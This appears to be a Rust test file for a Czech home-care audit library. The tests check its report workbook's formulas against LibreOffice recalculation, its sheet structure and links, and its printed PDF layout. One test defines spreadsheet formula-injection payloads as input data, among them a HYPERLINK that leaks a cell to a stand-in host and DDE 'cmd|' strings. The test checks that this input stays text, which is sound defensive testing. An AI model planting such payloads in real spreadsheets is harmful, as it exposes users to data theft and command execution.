//! The report workbook, checked by a real spreadsheet program: LibreOffice
//! recalculates every formula and must get the values the library cached;
//! `Souhrn` renders on one page; input text never becomes a formula.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use calamine::{Data, Reader, Xlsx, open_workbook};
use chrono::NaiveDate;
use homecare_audit::audit::Audit;
use homecare_audit::workbook::{
    InputCell, InputWorkbook, ReadOptions, ReportWorkbook, read_bytes, read_path,
};
use homecare_audit::{Client, Dataset, Lang, Period, Provider, Role, Visit, Worker};
use rust_decimal::Decimal;

use crate::common::{PDFINFO, PDFTOPPM, PDFTOTEXT, SOFFICE, have, root};

/// A fresh folder for one test's files.
pub(crate) fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("homecare-report-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// The sample's report in `dir`.
fn sample_report(dir: &Path, lang: Lang) -> PathBuf {
    let (ds, problems) = read_path(root("fixtures/sample.xlsx"), &ReadOptions::default()).unwrap();
    let report = Audit::new(&ds).problems(&problems).run();
    let path = dir.join("report.xlsx");
    ReportWorkbook::new(&report, &ds)
        .lang(lang)
        .save(&path)
        .unwrap();
    path
}

/// `soffice`, or `None` when it is missing (see [`have`]).
pub(crate) fn soffice(test: &str) -> Option<&'static str> {
    have(test, &[SOFFICE]).then_some(SOFFICE.command)
}

/// A LibreOffice profile that recalculates every formula on load
/// (`OOXMLRecalcMode` 0; by default LibreOffice keeps cached values).
pub(crate) fn recalculating_profile(dir: &Path) -> String {
    let user = dir.join("profile/user");
    std::fs::create_dir_all(&user).unwrap();
    let item = |mode: &str| {
        format!(
            "<item oor:path=\"/org.openoffice.Office.Calc/Formula/Load\">\
             <prop oor:name=\"{mode}\" oor:op=\"fuse\"><value>0</value></prop></item>"
        )
    };
    std::fs::write(
        user.join("registrymodifications.xcu"),
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
             <oor:items xmlns:oor=\"http://openoffice.org/2001/registry\" \
             xmlns:xs=\"http://www.w3.org/2001/XMLSchema\" \
             xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\">{}{}</oor:items>\n",
            item("OOXMLRecalcMode"),
            item("ODFRecalcMode")
        ),
    )
    .unwrap();
    format!("file://{}", dir.join("profile").display())
}

/// One page of a PDF as text, laid out (poppler's `pdftotext`).
pub(crate) fn pdf_page_text(pdf: &Path, page: u32) -> String {
    let out = Command::new("pdftotext")
        .args(["-f", &page.to_string(), "-l", &page.to_string(), "-layout"])
        .arg(pdf)
        .arg("-")
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Converts `file` with LibreOffice into `out/` as `format`.
pub(crate) fn convert(exe: &str, profile: &str, file: &Path, format: &str, out: &Path) -> PathBuf {
    let status = Command::new(exe)
        .arg(format!("-env:UserInstallation={profile}"))
        .args(["--headless", "--convert-to", format])
        .arg("--outdir")
        .arg(out)
        .arg(file)
        .output()
        .unwrap();
    assert!(
        status.status.success(),
        "soffice failed: {}",
        String::from_utf8_lossy(&status.stderr)
    );
    let ext = format.split(':').next().unwrap();
    let converted = out.join(file.file_stem().unwrap()).with_extension(ext);
    assert!(converted.exists(), "{} not written", converted.display());
    converted
}

/// Every cell of every sheet, by (sheet, row, col) in absolute positions.
pub(crate) fn cells(path: &Path) -> BTreeMap<(String, u32, u32), Data> {
    let mut wb: Xlsx<_> = open_workbook(path).unwrap();
    let mut out = BTreeMap::new();
    for name in wb.sheet_names() {
        let range = wb.worksheet_range(&name).unwrap();
        let (r0, c0) = range.start().unwrap_or((0, 0));
        for (r, c, v) in range.used_cells() {
            out.insert((name.clone(), r0 + r as u32, c0 + c as u32), v.clone());
        }
    }
    out
}

/// The positions of formula cells.
pub(crate) fn formula_cells(path: &Path) -> Vec<(String, u32, u32, String)> {
    let mut wb: Xlsx<_> = open_workbook(path).unwrap();
    let mut out = Vec::new();
    for name in wb.sheet_names() {
        let range = wb.worksheet_formula(&name).unwrap();
        let (r0, c0) = range.start().unwrap_or((0, 0));
        for (r, c, f) in range.used_cells() {
            if !f.is_empty() {
                out.push((name.clone(), r0 + r as u32, c0 + c as u32, f.clone()));
            }
        }
    }
    out
}

pub(crate) fn same(a: &Data, b: &Data) -> bool {
    let num = |d: &Data| match d {
        Data::Float(f) => Some(*f),
        Data::Int(i) => Some(*i as f64),
        _ => None,
    };
    match (num(a), num(b)) {
        (Some(x), Some(y)) => (x - y).abs() <= 1e-9 * x.abs().max(y.abs()).max(1.0),
        _ => {
            let text = |d: &Data| match d {
                Data::String(s) => s.clone(),
                Data::Empty => String::new(),
                other => format!("{other:?}"),
            };
            text(a) == text(b)
        }
    }
}

/// Every input of the financing figures: the capacities, a profit, a
/// region's method (own revenue per direct hour), a cost marked not
/// eligible.
fn financing_inputs(ds: &mut homecare_audit::Dataset) {
    use homecare_audit::model::{FinancingKey, FinancingParam};
    use rust_decimal::Decimal;
    ds.provider.network_fte = Some(Decimal::new(35, 1));
    ds.provider.capacity_clients = Some(40);
    ds.provider.reasonable_profit = Some(Decimal::from(10_000));
    if let Some(c) = ds.costs.as_mut().and_then(|c| c.first_mut()) {
        c.eligible = Some(false);
    }
    let param = |key, value| FinancingParam {
        region: None,
        valid_from: None,
        valid_to: None,
        key,
        value,
        source: "test".into(),
        place: String::new(),
    };
    ds.financing = vec![
        param(FinancingKey::NormativeCostPerFte, Decimal::from(650_000)),
        param(FinancingKey::OwnRevenuePerDirectHour, Decimal::from(95)),
        param(FinancingKey::MunicipalShare, Decimal::new(12, 2)),
    ];
}

#[test]
fn libreoffice_recalculates_every_formula_to_the_cached_value() {
    let Some(exe) = soffice("libreoffice_recalculates_every_formula_to_the_cached_value") else {
        return;
    };
    let dir = scratch("recalc");
    let profile = recalculating_profile(&dir);

    // First prove the profile recalculates: a formula cached as 0 must
    // come back as 2.
    let canary = dir.join("canary.xlsx");
    let mut wb = rust_xlsxwriter::Workbook::new();
    wb.add_worksheet()
        .write_formula(0, 0, rust_xlsxwriter::Formula::new("1+1").set_result("0"))
        .unwrap();
    wb.save(&canary).unwrap();
    let out = dir.join("out");
    let recalculated = convert(exe, &profile, &canary, "xlsx", &out);
    let c = cells(&recalculated);
    assert_eq!(
        c.get(&("Sheet1".to_string(), 0, 0)),
        Some(&Data::Float(2.0)),
        "LibreOffice did not recalculate: the profile setting was ignored"
    );

    // The sample in both languages, and generated data taking the other
    // paths: fees from the rows (no Výnosy), training hours given (some
    // under the minimum), no costs at all (cost indicators not available),
    // a timesheet alone (no Klienti, no Pracovníci: the worker lines
    // without their staff-list columns, the lists' indicators not
    // available), and public money in full (capacity, profit, a region's
    // method: every formula of the Financování sheet).
    let variants: [(&str, Lang); 7] = [
        ("sample", Lang::Cs),
        ("sample", Lang::En),
        ("no-revenues", Lang::Cs),
        ("no-costs", Lang::En),
        ("no-lists", Lang::Cs),
        ("financing", Lang::Cs),
        ("financing-public", Lang::En),
    ];
    for (variant, lang) in variants {
        let sub = dir.join(format!("{variant}-{lang:?}"));
        std::fs::create_dir_all(&sub).unwrap();
        let report = if variant == "sample" {
            sample_report(&sub, lang)
        } else {
            let mut ds = homecare_audit::synth::Synth::new(5, 3000).dataset();
            if variant.starts_with("financing") {
                financing_inputs(&mut ds);
            } else {
                ds.revenues = None;
            }
            if variant == "no-costs" {
                ds.costs = None;
            }
            for (i, w) in ds.workers.iter_mut().enumerate() {
                w.training = Some(if i % 2 == 0 { 30 * 3600 } else { 10 * 3600 });
            }
            if variant == "no-lists" {
                // As the reader makes them from a timesheet alone.
                use homecare_audit::model::RecordList;
                ds.absent_lists.extend(RecordList::ALL);
                for c in &mut ds.clients {
                    *c = homecare_audit::Client::new(c.id.clone());
                }
                for w in &mut ds.workers {
                    *w = homecare_audit::Worker::unlisted(w.id.clone());
                }
            }
            let audit = Audit::new(&ds).run();
            let path = sub.join("report.xlsx");
            // The published report: its indicators are numbers over
            // numbers, and every Financování formula still holds.
            let published = audit.public(&ds);
            let public = variant.ends_with("public");
            ReportWorkbook::new(if public { &published } else { &audit }, &ds)
                .lang(lang)
                .public(public)
                .save(&path)
                .unwrap();
            path
        };
        let formulas = formula_cells(&report);
        let cached = cells(&report);
        // Indicators, detail rows, summary links: hundreds of formulas
        // (fewer without the lists: their indicators have none).
        let (least_formulas, least_values) = if variant == "no-lists" {
            (100, 30)
        } else {
            (150, 40)
        };
        assert!(
            formulas.len() > least_formulas,
            "only {} formulas",
            formulas.len()
        );
        // Every available indicator's value (column C of the indicators
        // sheet) is a formula, not a pasted number.
        let ind_sheet = lang.pick("Ukazatele", "Indicators");
        let values: Vec<_> = cached
            .iter()
            .filter(|((s, r, c), v)| {
                s == ind_sheet && *r > 0 && *c == 2 && matches!(v, Data::Float(_))
            })
            .collect();
        // Without the lists, 37 of the 71 are not available.
        assert!(
            values.len() > least_values,
            "{} indicator values",
            values.len()
        );
        // (A published report's indicators are numbers where their
        // detail rows are withheld; every formula it has must hold.)
        for ((s, r, c), _) in values.iter().filter(|_| !variant.ends_with("public")) {
            assert!(
                formulas
                    .iter()
                    .any(|(fs, fr, fc, _)| fs == s && fr == r && fc == c),
                "{s}!C{} is a number, not a formula",
                r + 1
            );
        }
        let recalculated = cells(&convert(exe, &profile, &report, "xlsx", &sub.join("out")));

        let mut checked = 0;
        for (sheet, r, c, f) in &formulas {
            let key = (sheet.clone(), *r, *c);
            let before = cached.get(&key).cloned().unwrap_or(Data::Empty);
            let after = recalculated.get(&key).cloned().unwrap_or(Data::Empty);
            assert!(
                same(&before, &after),
                "{variant} {lang:?} {sheet}!R{}C{} ={f}: cached {before:?}, LibreOffice {after:?}",
                r + 1,
                c + 1
            );
            checked += 1;
        }
        assert_eq!(checked, formulas.len());
        for ((sheet, r, c), v) in &recalculated {
            assert!(
                !matches!(v, Data::Error(_)),
                "{sheet}!R{}C{} is an error after recalculation: {v:?}",
                r + 1,
                c + 1
            );
        }
    }
}

/// Text cells of a sheet that are formulas.
fn formulas_of(path: &Path, sheet: &str) -> Vec<String> {
    let mut wb: Xlsx<_> = open_workbook(path).unwrap();
    let range = wb.worksheet_formula(sheet).unwrap();
    range
        .used_cells()
        .map(|(_, _, f)| f.clone())
        .filter(|f| !f.is_empty())
        .collect()
}

#[test]
fn input_text_that_looks_like_a_formula_stays_text() {
    // Formula-injection payloads as they arrive in a provider's workbook:
    // in ids, names and in a value that gets rejected.
    let hostile_client = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"klikni\")";
    let hostile_worker = "+cmd|' /C calc'!A0";
    let hostile_name = "=1+1";
    let day = NaiveDate::from_ymd_opt(2025, 3, 3).unwrap();
    let mut b = Dataset::builder();
    let mut p = Provider::new(hostile_name);
    p.period = Period::new(day, NaiveDate::from_ymd_opt(2025, 3, 31).unwrap());
    b.provider(p);
    let w = b
        .worker(Worker::new(hostile_worker, Role::Pss, Decimal::ONE))
        .unwrap();
    let c = b.client(Client::new(hostile_client)).unwrap();
    let task = b.find_task("a1").unwrap();
    b.visit(Visit::new(day, w, Some(c), task, 3600)).unwrap();
    let ds = b.build();
    let mut input = InputWorkbook::new(&ds);
    // A visit row whose date is a payload: rejected, its raw value listed.
    input.extra_visit_row(vec![
        InputCell::Text("@SUM(1+1)*cmd|' /C calc'!A0".into()),
        InputCell::Text(hostile_worker.into()),
        InputCell::Text(hostile_client.into()),
        InputCell::Text("a1".into()),
        InputCell::Empty,
        InputCell::Empty,
        InputCell::Number(60.0),
    ]);
    let bytes = input.to_buffer().unwrap();
    let (ds, problems) = read_bytes(&bytes, Some("vstup.xlsx"), &ReadOptions::default()).unwrap();
    assert_eq!(ds.clients[0].id, hostile_client);
    assert_eq!(problems.rejections().count(), 1);
    let report = Audit::new(&ds).problems(&problems).run();
    let dir = scratch("injection");
    let path = dir.join("report.xlsx");
    ReportWorkbook::new(&report, &ds).save(&path).unwrap();

    let all = cells(&path);
    let text_at = |sheet: &str, r: u32, c: u32| all.get(&(sheet.to_string(), r, c)).cloned();
    assert_eq!(
        text_at("Klienti", 1, 0),
        Some(Data::String(hostile_client.into()))
    );
    assert_eq!(
        text_at("Pracovníci", 1, 0),
        Some(Data::String(hostile_worker.into()))
    );
    assert_eq!(
        text_at("Metodika", 2, 1),
        Some(Data::String(hostile_name.into()))
    );
    assert_eq!(
        text_at("Chyby", 1, 1),
        Some(Data::String("@SUM(1+1)*cmd|' /C calc'!A0".into()))
    );
    // None of these sheets has a formula built from input text.
    for sheet in ["Klienti", "Chyby", "Nálezy"] {
        assert!(formulas_of(&path, sheet).is_empty(), "{sheet}");
    }
    // Pracovníci has its own row formulas only (worked hours, utilisation).
    for f in formulas_of(&path, "Pracovníci") {
        assert!(f.starts_with("M2+") || f.starts_with("IF(K2"), "{f}");
    }
    // Metodika's only formulas are the period's days and annual factor.
    assert_eq!(formulas_of(&path, "Metodika"), ["B7-B6+1", "365/B8"]);
}

#[test]
fn sheets_links_and_methodology() {
    let dir = scratch("structure");
    for (lang, names) in [
        (
            Lang::Cs,
            [
                "Souhrn",
                "Ukazatele",
                "Pracovníci",
                "Klienti",
                "Měsíce",
                "Náklady",
                "Financování",
                "Dosah",
                "Cena hodiny",
                "Scénáře",
                "Nálezy",
                "Chyby",
                "Metodika",
            ],
        ),
        (
            Lang::En,
            [
                "Summary",
                "Indicators",
                "Workers",
                "Clients",
                "Months",
                "Costs",
                "Financing",
                "Reach",
                "Hour cost",
                "Scenarios",
                "Findings",
                "Rejected",
                "Methodology",
            ],
        ),
    ] {
        let path = sample_report(&dir, lang);
        let wb: Xlsx<_> = open_workbook(&path).unwrap();
        assert_eq!(wb.sheet_names(), names);
    }
    let path = sample_report(&dir, Lang::Cs);
    let all = cells(&path);
    let at = |sheet: &str, r: u32, c: u32| all.get(&(sheet.to_string(), r, c)).cloned();

    // The input's SHA-256 (64 hex digits) and file name in Metodika.
    let (ds, _) = read_path(root("fixtures/sample.xlsx"), &ReadOptions::default()).unwrap();
    let sha = ds.source.sha256.clone().unwrap();
    assert_eq!(sha.len(), 64);
    assert!(
        sha.bytes()
            .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase())
    );
    assert_eq!(at("Metodika", 15, 1), Some(Data::String(sha)));
    assert_eq!(
        at("Metodika", 14, 1),
        Some(Data::String("sample.xlsx".into()))
    );
    // The period 1.1.–31.12.2025 has 365 days: annual factor 1.
    assert_eq!(at("Metodika", 7, 1), Some(Data::Float(365.0)));
    assert_eq!(at("Metodika", 8, 1), Some(Data::Float(1.0)));

    // Rejected rows name their input place and link into the input file.
    // The sample's first defect is an unknown client in column C of the
    // row after the generator's visits (see cli.rs).
    let n = homecare_audit::synth::Synth::new(2025, 6000)
        .dataset()
        .visits
        .len();
    let place = format!("Výkazy!C{}", n + 2);
    let chyby_row = all
        .iter()
        .find(|((s, _, c), v)| s == "Chyby" && *c == 0 && **v == Data::String(place.clone()))
        .map(|((_, r, _), _)| *r)
        .unwrap_or_else(|| panic!("{place} not in Chyby"));
    assert_eq!(
        at("Chyby", chyby_row, 1),
        Some(Data::String("K99999".into()))
    );
    // Excel's form: the file in the relationship, the cell in `location`
    // (Chyby is the twelfth sheet).
    let sheet_xml = zip_entry(&path, "xl/worksheets/sheet12.xml");
    let rels = zip_entry(&path, "xl/worksheets/_rels/sheet12.xml.rels");
    assert!(
        sheet_xml.contains(&format!(
            "<hyperlink ref=\"A{}\" r:id=\"rId1\" location=\"'Výkazy'!C{}\"/>",
            chyby_row + 1,
            n + 2
        )),
        "no link to the input place in Chyby"
    );
    assert!(rels.contains("Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"sample.xlsx\" TargetMode=\"External\""));
}

/// One entry of a zip archive as text.
fn zip_entry(path: &Path, name: &str) -> String {
    let file = std::fs::File::open(path).unwrap();
    let mut zip = zip::ZipArchive::new(file).unwrap();
    let mut s = String::new();
    std::io::Read::read_to_string(&mut zip.by_name(name).unwrap(), &mut s).unwrap();
    s
}

#[test]
fn summary_prints_on_one_landscape_page() {
    let test = "summary_prints_on_one_landscape_page";
    if !have(test, &[SOFFICE, PDFTOTEXT, PDFINFO, PDFTOPPM]) {
        return;
    }
    let exe = SOFFICE.command;
    let dir = scratch("render");
    let report = sample_report(&dir, Lang::Cs);
    // LibreOffice prints every sheet; Souhrn is first, so page 1 is Souhrn.
    let profile = recalculating_profile(&dir);
    let pdf = convert(exe, &profile, &report, "pdf", &dir.join("out"));
    let text = |page: u32| pdf_page_text(&pdf, page);
    let page1 = text(1);
    // One page wide: the leftmost column (the title, the indicator labels)
    // and the rightmost (the note column, the chart titles) on page 1 ...
    for needle in [
        "Audit pečovatelské služby",
        "Náklady na hodinu přímé péče",
        "Poznámka",
        "Struktura nákladů",
        "Měsíční vývoj",
        "Podle stupně příspěvku na péči",
    ] {
        assert!(page1.contains(needle), "page 1 lacks {needle:?}:\n{page1}");
    }
    // ... and page 2 is already the next sheet.
    assert!(text(2).contains("Oblast"), "page 2 is not Ukazatele");
    // Landscape: the page is wider than high.
    let info = Command::new("pdfinfo").arg(&pdf).output().unwrap();
    let info = String::from_utf8_lossy(&info.stdout);
    let size = info
        .lines()
        .find(|l| l.starts_with("Page size:"))
        .unwrap()
        .to_string();
    let nums: Vec<f64> = size
        .split_whitespace()
        .filter_map(|w| w.parse().ok())
        .collect();
    assert!(nums[0] > nums[1], "{size}");
    // The picture for the README.
    let png = dir.join("souhrn");
    let status = Command::new("pdftoppm")
        .args(["-f", "1", "-l", "1", "-png", "-r", "110", "-singlefile"])
        .arg(&pdf)
        .arg(&png)
        .status()
        .unwrap();
    assert!(status.success());
    let png = png.with_extension("png");
    let bytes = std::fs::read(&png).unwrap();
    // PNG header: width and height (big-endian) at bytes 16..24.
    let w = u32::from_be_bytes(bytes[16..20].try_into().unwrap());
    let h = u32::from_be_bytes(bytes[20..24].try_into().unwrap());
    assert!(w > h, "{w}×{h}");
    if std::env::var("HOMECARE_UPDATE_DOCS").is_ok() {
        std::fs::copy(&png, root("docs/souhrn.png")).unwrap();
    }
}

#[test]
fn a_period_past_the_checked_law_says_so_and_metodika_lists_the_rows_applied() {
    // The built-in tables are checked through 30. 11. 2026
    // (law::CHECKED_THROUGH). A 2027 audit says so in one line on Souhrn
    // (row 3, under the period) and in the command-line summary; the
    // sample's 2025 audit does not.
    let dir = scratch("law-warning");
    let day = |y, m, d| NaiveDate::from_ymd_opt(y, m, d).unwrap();
    let mut b = Dataset::builder();
    let mut p = Provider::new("Budoucí");
    p.period = Period::new(day(2027, 1, 1), day(2027, 3, 31));
    b.provider(p);
    let ds = b.build();
    let report = Audit::new(&ds).run();
    let path = dir.join("future.xlsx");
    ReportWorkbook::new(&report, &ds).save(&path).unwrap();
    let c = cells(&path);
    let a3 = c.get(&("Souhrn".to_string(), 2, 0)).map(|d| d.to_string());
    let want = "Zákonné limity úhrad jsou ověřeny do 30. 11. 2026 a období auditu končí později";
    assert!(a3.as_deref().is_some_and(|t| t.starts_with(want)), "{a3:?}");
    let summary = homecare_audit::run::summary_text(&report, Lang::En);
    assert!(
        summary.contains("! The legal fee caps are checked through 2026-11-30"),
        "{summary}"
    );
    // Metodika: the full-day meal cap of Decree 571/2025, 290 Kč from
    // 1. 2. 2026, among the rows applied (columns: kind, tasks, valid from,
    // amount, unit, decree, origin, source).
    let at = |r: u32, col: u32| {
        c.get(&("Metodika".to_string(), r, col))
            .map(|d| d.to_string())
            .unwrap_or_default()
    };
    let rows: Vec<u32> = (c.keys())
        .filter(|(s, _, col)| s == "Metodika" && *col == 5)
        .map(|(_, r, _)| *r)
        .collect();
    assert!(
        rows.iter().any(|&r| at(r, 0) == "celodenní strava"
            && at(r, 3) == "290"
            && at(r, 5) == "571/2025 Sb."
            && at(r, 6) == "vestavěný, ověřený"),
        "{rows:?}"
    );
    let sample = sample_report(&dir, Lang::Cs);
    assert!(!cells(&sample).contains_key(&("Souhrn".to_string(), 2, 0)));
}

/// The text of every page of a PDF (poppler's pdftotext, layout kept).
pub(crate) fn pdf_pages(pdf: &Path) -> Vec<String> {
    let all = Command::new("pdftotext")
        .arg("-layout")
        .arg(pdf)
        .arg("-")
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&all.stdout).into_owned();
    // pdftotext ends every page with a form feed.
    let mut pages: Vec<String> = text.split('\u{c}').map(str::to_string).collect();
    if pages.last().is_some_and(|p| p.trim().is_empty()) {
        pages.pop();
    }
    pages
}

/// The manual page breaks of a worksheet (`xl/worksheets/<sheet>`) of an
/// xlsx file: its `<brk>` elements.
fn page_breaks_written(xlsx: &Path, sheet: &str) -> usize {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::fs::File::open(xlsx).unwrap()).unwrap();
    let mut xml = String::new();
    zip.by_name(&format!("xl/worksheets/{sheet}"))
        .unwrap()
        .read_to_string(&mut xml)
        .unwrap();
    xml.matches("<brk ").count()
}

/// The sheet a printed page belongs to: the first word group of its
/// header line (the sheet's name, left; the provider, right).
pub(crate) fn page_sheet(page: &str) -> String {
    let first = page
        .lines()
        .find(|l| !l.trim().is_empty())
        .unwrap_or_default();
    first
        .trim()
        .split("  ")
        .next()
        .unwrap_or_default()
        .trim()
        .to_string()
}

#[test]
fn every_printed_page_holds_its_header_row_and_the_rows_set_the_page_count() {
    let test = "every_printed_page_holds_its_header_row_and_the_rows_set_the_page_count";
    if !have(test, &[SOFFICE, PDFTOTEXT]) {
        return;
    }
    let dir = scratch("print");
    let report_path = sample_report(&dir, Lang::Cs);
    let profile = recalculating_profile(&dir);
    let pdf = convert(
        SOFFICE.command,
        &profile,
        &report_path,
        "pdf",
        &dir.join("out"),
    );
    let pages = pdf_pages(&pdf);
    let (ds, problems) = read_path(root("fixtures/sample.xlsx"), &ReadOptions::default()).unwrap();
    let r = Audit::new(&ds).problems(&problems).run();
    // Each table sheet: its first header cell, and its data rows. A table
    // sheet prints 25 data rows a page under its header row
    // (sheet::ROWS_PER_PAGE), so its pages are ⌈rows / 25⌉, at least one.
    // The sample: 12 months → 1 page, 100 clients → 4, 97 findings → 4.
    // Ukazatele's rows are as tall as their wrapped texts, and a page takes
    // at most 25 rows and as many as fit (sheet::page_breaks_by_lines): its
    // pages are the page breaks written + 1, the program adding none.
    let tables = [
        ("Ukazatele", "Oblast", r.indicators.len()),
        ("Pracovníci", "Pracovník", r.workers.len()),
        ("Klienti", "Klient", r.clients.len()),
        ("Měsíce", "Měsíc", r.months.len()),
        ("Nálezy", "Druh nálezu", r.findings.len()),
        ("Chyby", "Místo ve vstupu", r.problems.len()),
    ];
    assert_eq!(
        (r.months.len(), r.clients.len(), r.findings.len()),
        (12, 100, 97)
    );
    let on = |sheet: &str| pages.iter().filter(|p| page_sheet(p) == sheet).count();
    let indicator_breaks = page_breaks_written(&report_path, "sheet2.xml");
    assert!(indicator_breaks + 1 >= r.indicators.len().div_ceil(25));
    for (sheet, first_header, rows) in tables {
        let want = match sheet {
            "Ukazatele" => indicator_breaks + 1,
            _ => rows.div_ceil(25).max(1),
        };
        assert_eq!(on(sheet), want, "{sheet}: {rows} rows");
        for p in pages.iter().filter(|p| page_sheet(p) == sheet) {
            // The header row is on every page, so no page holds orphaned
            // columns or rows without their titles.
            assert!(
                p.contains(first_header),
                "a page of {sheet} lacks its header:\n{p}"
            );
        }
    }
    // The free-form sheets: Souhrn on one page (it is the first, and its
    // title is the first line), the others on at least one.
    assert!(
        pages[0].contains("Audit pečovatelské služby"),
        "{}",
        pages[0]
    );
    assert_eq!(
        pages
            .iter()
            .filter(|p| p.contains("Audit pečovatelské služby: "))
            .count(),
        1
    );
    for sheet in ["Náklady", "Cena hodiny", "Scénáře", "Metodika"] {
        assert!(on(sheet) >= 1, "{sheet} is not printed");
    }
    // Every page names its sheet and the provider, and says which page it is.
    let n = pages.len();
    for (i, p) in pages.iter().enumerate().skip(1) {
        assert!(
            p.contains("Pečovatelská služba Vzorov"),
            "page {}:\n{p}",
            i + 1
        );
        assert!(
            p.contains(&format!("strana {} z {n}", i + 1)),
            "page {}:\n{p}",
            i + 1
        );
    }
}

#[test]
fn the_councils_pdf_holds_the_sheets_a_council_reads() {
    let test = "the_councils_pdf_holds_the_sheets_a_council_reads";
    if !have(test, &[SOFFICE, PDFTOTEXT, PDFTOPPM]) {
        return;
    }
    let dir = scratch("council");
    let pdf = dir.join("zastupitelstvo.pdf");
    let report = dir.join("zprava.xlsx");
    let args: [&std::ffi::OsStr; 4] = [
        "-o".as_ref(),
        report.as_os_str(),
        "--pdf".as_ref(),
        pdf.as_os_str(),
    ];
    crate::common::audit_ok(args);
    let pages = pdf_pages(&pdf);
    // Souhrn first; then only the council's sheets, the findings by kind
    // last (the sample's four kinds, at most five rows each: one page).
    assert!(
        pages[0].contains("Audit pečovatelské služby"),
        "{}",
        pages[0]
    );
    let sheets: Vec<String> = pages.iter().skip(1).map(|p| page_sheet(p)).collect();
    for s in &sheets {
        assert!(
            ["Ukazatele", "Cena hodiny", "Scénáře", "Nálezy podle druhu"].contains(&s.as_str()),
            "{s} is not a council's sheet"
        );
    }
    assert_eq!(
        sheets.last().map(String::as_str),
        Some("Nálezy podle druhu")
    );
    let by_kind = pages.last().unwrap();
    for kind in ["úhrada nad zákonný limit", "úhrada mimo ceník"] {
        assert!(by_kind.contains(kind), "{kind}:\n{by_kind}");
    }
    if std::env::var("HOMECARE_UPDATE_DOCS").is_ok() {
        let png = dir.join("nalezy");
        let last = pages.len().to_string();
        let status = Command::new("pdftoppm")
            .args(["-f", &last, "-l", &last, "-png", "-r", "80", "-singlefile"])
            .arg(&pdf)
            .arg(&png)
            .status()
            .unwrap();
        assert!(status.success());
        std::fs::copy(png.with_extension("png"), root("docs/pdf-nalezy.png")).unwrap();
    }
    // Without LibreOffice: one line naming what to install, exit 1.
    let empty = dir.join("no-programs");
    std::fs::create_dir_all(&empty).unwrap();
    let out = Command::new(crate::common::example("audit"))
        .arg("-o")
        .arg(dir.join("zprava2.xlsx"))
        .arg("--pdf")
        .arg(dir.join("x.pdf"))
        .env("PATH", &empty)
        .current_dir(root(""))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    let last = stderr.lines().last().unwrap_or_default();
    assert!(last.contains("libreoffice-calc-nogui"), "{stderr}");
}
